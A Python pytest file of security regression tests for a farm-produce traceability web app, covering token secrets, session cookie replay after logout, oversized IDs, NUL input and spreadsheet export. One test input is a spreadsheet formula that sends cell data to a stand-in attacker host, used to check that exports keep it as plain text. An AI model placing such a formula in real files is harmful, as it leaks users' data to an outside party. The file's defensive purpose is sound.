"""Bugs the security tests found, each pinned by a small test of its own (the wider
security tests are tests/web/test_web_security_*.py; docs/security.md describes them)."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from pathlib import Path

import pytest
import test_web_console_kit as console_kit
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.orm import Session
from test_web_console_kit import Console, seeded_app, signed_in
from web_api_kit import Api, bootstrap, make_app, make_settings, seed_county

from farmtrace.ledger.db import create_db_engine
from farmtrace.ledger.keys import MasterKey
from farmtrace.ledger.keystore import KeyStore
from farmtrace.trace.services import trace_services
from farmtrace.web.api.context import MASTER_KEY_FILE

cheap_scrypt = console_kit.cheap_scrypt  # a fixture of the console tests


@pytest.fixture
def county(database_url: str, tmp_path: Path) -> tuple[Api, dict[str, str]]:
    app = make_app(database_url, tmp_path)
    operator = Api(app.test_client(), bootstrap(make_settings(database_url, tmp_path), app))
    return operator, seed_county(operator)


def test_a_products_certificates_are_recorded_and_listed_through_the_api(
    county: tuple[Api, dict[str, str]],
) -> None:
    # Both operations answered 500: the views' dates were already text when the response
    # schema formatted them as dates.
    operator, tokens = county
    coop = operator.as_token(tokens["coop-longcun"])
    today = date.today()
    body = {
        "scheme": "green_food",
        "certificate_number": "LB-45-1234567890",
        "issuer": "中国绿色食品发展中心",
        "valid_from": (today - timedelta(days=1)).isoformat(),
        "valid_until": (today + timedelta(days=365)).isoformat(),
    }
    created = coop.ok(coop.post("/api/v1/products/plum/certificates", body))
    assert created["number"] == "LB-45-1234567890" and created["valid"] is True
    assert created["valid_from"] == body["valid_from"] and created["valid_until"] == body["valid_until"]
    listed = coop.ok(coop.get("/api/v1/products/plum/certificates"), 200)["items"]
    assert listed == [created]


def test_a_retried_token_issue_neither_issues_twice_nor_keeps_the_secret(
    county: tuple[Api, dict[str, str]], database_url: str
) -> None:
    # The idempotency store kept the first response, secret and all, for 24 hours.
    operator, _tokens = county
    body = {"name": "lab software", "scopes": ["batches:read"]}
    first = operator.post("/api/v1/orgs/lab-gd/tokens", body, key="issue-once")
    assert first.status_code == 201
    secret, token_id = first.json["secret"], first.json["token"]["id"]
    retry = operator.post("/api/v1/orgs/lab-gd/tokens", body, key="issue-once")
    assert retry.status_code == 409 and retry.headers["Idempotent-Replayed"] == "true"
    assert retry.json["type"] == "/api/v1/docs#problem-secret-shown-once"
    assert token_id in retry.json["detail"] and secret not in retry.text
    listed = [t["id"] for t in operator.get("/api/v1/orgs/lab-gd/tokens").json["items"]]
    assert len(listed) == 2 and token_id in listed  # seed_county's token and this one, once
    engine = create_db_engine(database_url)
    try:
        with engine.connect() as connection:
            bodies = connection.execute(text("SELECT body FROM api_idempotency")).scalars().all()
    finally:
        engine.dispose()
    assert bodies and not any(secret.encode() in bytes(stored) for stored in bodies)


def test_a_token_issued_for_a_user_is_refused_once_the_user_is_deactivated(
    county: tuple[Api, dict[str, str]], database_url: str, tmp_path: Path
) -> None:
    # It went on working: only the organisation's state was checked.
    operator, _tokens = county
    body = {
        "username": "lab-clerk",
        "display_name": "化验员",
        "password": "long enough 1234",
        "roles": ["recorder"],
    }
    user = operator.ok(operator.post("/api/v1/orgs/lab-gd/users", body))
    issued = operator.ok(
        operator.post(
            "/api/v1/orgs/lab-gd/tokens", {"name": "clerk", "scopes": ["batches:read"], "user_id": user["id"]}
        )
    )
    clerk = operator.as_token(issued["secret"])
    assert clerk.get("/api/v1/batches").status_code == 200
    set_active(database_url, tmp_path, "lab-clerk", False)  # as the console's 停用 does
    assert clerk.get("/api/v1/batches").status_code == 401
    set_active(database_url, tmp_path, "lab-clerk", True)
    assert clerk.get("/api/v1/batches").status_code == 200


def set_active(database_url: str, home: Path, username: str, active: bool) -> None:
    engine = create_db_engine(database_url)
    try:
        with Session(engine) as session:
            master = MasterKey.load_or_create(home / "keys" / MASTER_KEY_FILE)
            trace_services(session, KeyStore(session, master)).accounts.set_active(username, active)
            session.commit()
    finally:
        engine.dispose()


def test_signing_out_of_the_console_refuses_a_copy_of_the_cookie_taken_before(
    database_factory: object, tmp_path: Path, cheap_scrypt: None
) -> None:
    # The signed cookie carried the whole session: a copy went on working for days.
    app = seeded_app(database_factory, tmp_path)
    try:
        member = signed_in(app, "coop-user")
        copied = member.client.get_cookie("ft_session")
        assert copied is not None
        assert member.post("/console/logout").status_code == 303
        thief = Console(app.test_client())
        thief.client.set_cookie("ft_session", copied.value)
        response = thief.get("/console/coop/")
        assert response.status_code == 302 and response.headers["Location"].startswith("/console/login")
    finally:
        app.extensions["farmtrace.engine"].dispose()


def test_a_console_path_number_no_row_can_have_is_not_found(
    database_factory: object, tmp_path: Path, cheap_scrypt: None
) -> None:
    # 500: SQLite cannot bind an integer over 64 bits, PostgreSQL's integer stops at 2**31 - 1.
    app = seeded_app(database_factory, tmp_path)
    try:
        packer, operator = signed_in(app, "packer-user"), signed_in(app, "op-admin")
        for number in (2**31, 10**23):
            assert packer.get(f"/console/printing/jobs/{number}").status_code == 404
            assert packer.get(f"/console/packing/ranges/{number}/codes.csv").status_code == 404
            assert packer.post(f"/console/packing/ranges/{number}/void", {"reason": "x"}).status_code == 404
            assert operator.get(f"/console/operator/complaints/{number}").status_code == 404
            assert operator.post(f"/console/operator/users/{number}/unlock").status_code == 404
    finally:
        app.extensions["farmtrace.engine"].dispose()


FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'


def test_a_typed_name_is_text_in_the_operators_spreadsheet_not_a_formula(
    database_factory: object, tmp_path: Path, cheap_scrypt: None
) -> None:
    # A product name starting with "=" became a live formula in the XLSX and the CSV.
    app = seeded_app(database_factory, tmp_path)
    try:
        operator = signed_in(app, "op-admin")
        product = {
            "id": "formula-product",
            "owner": "coop-changbu",
            "name_zh": FORMULA,
            "category": "fruit",
            "unit": "kg",
        }
        assert operator.post("/console/operator/products", product).status_code == 303
        query = {"period": "month", "date": "2026-09", "scope": "product"}
        workbook = operator.get("/console/stats/download", query_string={**query, "format": "xlsx"})
        assert workbook.status_code == 200
        sheet = load_workbook(io.BytesIO(workbook.data))["汇总"]
        cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
        assert cells and all(c.data_type == "s" for c in cells)
        table = operator.get("/console/stats/download", query_string={**query, "format": "csv"})
        rows = list(csv.reader(io.StringIO(table.data.decode("utf-8-sig"))))
        assert [v for row in rows for v in row if FORMULA in v] == ["'" + FORMULA]
    finally:
        app.extensions["farmtrace.engine"].dispose()


def test_a_nul_character_in_a_pages_address_or_form_is_refused_before_the_database(
    database_factory: object, tmp_path: Path, cheap_scrypt: None
) -> None:
    # On PostgreSQL, GET /console/printing/?batch=a%00b was a 500: it refuses NUL in any text.
    app = seeded_app(database_factory, tmp_path)
    try:
        packer, lab = signed_in(app, "packer-user"), signed_in(app, "lab-user")
        assert packer.get("/console/printing/", query_string={"batch": "a\x00b"}).status_code == 400
        assert lab.get("/console/lab/find", query_string={"code": "B\x00"}).status_code == 400
        assert app.test_client().get("/batch/B0000000000A%00").status_code == 400
        refused = packer.post(
            "/console/packing/batches/B0000000000AB/void-code", {"code": "x\x00", "reason": "r"}
        )
        assert refused.status_code == 400 and "NUL" in refused.text
        assert app.test_client().get("/api/v1/orgs?kind=lab%00").json["errors"][0]["field"] == "kind"
    finally:
        app.extensions["farmtrace.engine"].dispose()
